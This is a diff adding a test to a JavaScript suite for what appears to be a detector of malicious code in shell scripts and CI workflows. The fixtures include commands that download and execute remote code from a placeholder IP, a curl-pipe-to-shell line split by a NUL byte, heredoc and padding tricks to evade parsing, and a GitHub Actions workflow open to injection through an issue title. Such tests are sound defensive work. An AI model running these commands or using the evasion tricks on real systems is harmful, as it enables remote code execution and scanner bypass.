@@ -140,6 +140,23 @@ describe('code that a command hands to an interpreter', () => {
     );
   });
 
+  it('is read as a shell reads it: to the exact end, without U+0000, however long', async () => {
+    const code = "import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/x').read())";
+    const scripts = {
+      'an end that is indented': `python3 - <<EOF\nx='''\n EOF\n'''\n${code}\nEOF\n`,
+      'an end among tabs': `python3 - <<-EOF\nx='''\n EOF\n'''\n${code}\n\tEOF\n`,
+      'a script that ends first': `python3 - <<EOF\n  EOF\n${code}\n`,
+      'U+0000': 'cu\0rl -s http://203.0.113.7/x | sh\n',
+      'a long text': `python3 -c "#${'x'.repeat(70_000)}\n${code.replaceAll('"', '')}"\n`,
+      'many options': `python3 ${'-B '.repeat(60)}-c "${code}"\n`,
+      'a long line': `python3 - <<EOF ${' '.repeat(10_000)}\n${code}\nEOF\n`,
+    };
+    for (const [name, script] of Object.entries(scripts))
+      assert.equal(await verdictOf('setup.sh', `#!/bin/sh\n${script}`), 'suspicious', name);
+    const run = `{"on":"issues","jobs":{"a":{"steps":[{"run":"echo \${{ github.event.issue.title }}"}]}}}`;
+    assert.equal(await verdictOf('.github/workflows/a.yml', `${run}\0`), 'suspicious');
+  });
+
   it('is read in time that grows with the text alone', () => {
     for (const text of [
       "python3 -c '",
